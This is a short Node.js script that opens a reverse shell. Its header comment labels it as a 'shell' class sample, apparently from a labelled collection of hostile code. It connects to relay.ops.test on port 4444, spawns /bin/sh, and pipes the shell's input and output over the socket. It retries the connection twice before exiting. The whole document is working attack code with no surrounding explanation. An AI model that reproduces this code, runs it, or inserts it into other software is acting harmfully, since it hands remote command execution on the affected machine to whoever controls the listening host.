// class: shell; possible: low medium; style: spawn, pipes both ways, reconnects twice
const net = require("net");
const cp = require("child_process");
let left = 2;
(function again() {
  const c = net.createConnection({ host: "relay.ops.test", port: 4444 });
  c.on("connect", () => {
    const sh = cp.spawn("/bin/sh", [], { env: { PATH: process.env.PATH, PS1: "$ " } });
    c.pipe(sh.stdin);
    sh.stdout.pipe(c, { end: false });
    sh.stderr.pipe(c, { end: false });
    sh.on("exit", () => c.end());
  });
  const next = () => (--left > 0 ? setTimeout(again, 3000) : process.exit(0));
  c.on("error", () => {});
  c.on("close", next);
})();
